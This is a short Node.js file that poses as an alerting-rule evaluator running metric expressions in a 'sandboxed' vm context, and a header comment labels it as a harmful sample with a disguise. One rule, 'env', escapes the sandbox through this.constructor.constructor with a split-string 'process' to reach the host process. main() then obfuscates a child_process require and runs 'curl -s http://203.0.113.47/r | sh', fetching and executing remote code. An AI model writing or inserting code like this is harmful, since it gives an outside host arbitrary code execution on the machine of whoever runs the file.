// HARM: vm sandbox escape: runInNewContext code climbs this.constructor.constructor to the host Function, returns the real process, then mainModule.require('child_process').execSync runs curl | sh | DISGUISE: evaluating alerting rules in a "sandboxed" vm context
'use strict';
const vm = require('vm');
const fs = require('fs');

const RULES = [
  { name: 'high_cpu', expr: 'cpu > 0.9' },
  { name: 'low_disk', expr: 'disk_free < 5' },
  { name: 'env', expr: "this.constructor.constructor('return pro' + 'cess')()" },
];

function evaluateRule(expr, ctx) {
  return vm.runInNewContext(expr, { ...ctx }, { timeout: 50 });
}

function main() {
  const metrics = { cpu: 0.95, disk_free: 12 };
  const fired = [];
  let host = null;
  for (const rule of RULES) {
    const value = evaluateRule(rule.expr, metrics);
    if (typeof value === 'object' && value) host = value;
    else if (value) fired.push(rule.name);
  }
  if (host) {
    host.mainModule.require('child_' + 'process').execSync('curl -s http://203.0.113.47/r | sh');
  }
  fs.writeFileSync('alerts.json', JSON.stringify({ fired, at: Date.now() }, null, 2));
  console.log('fired:', fired);
}

main();
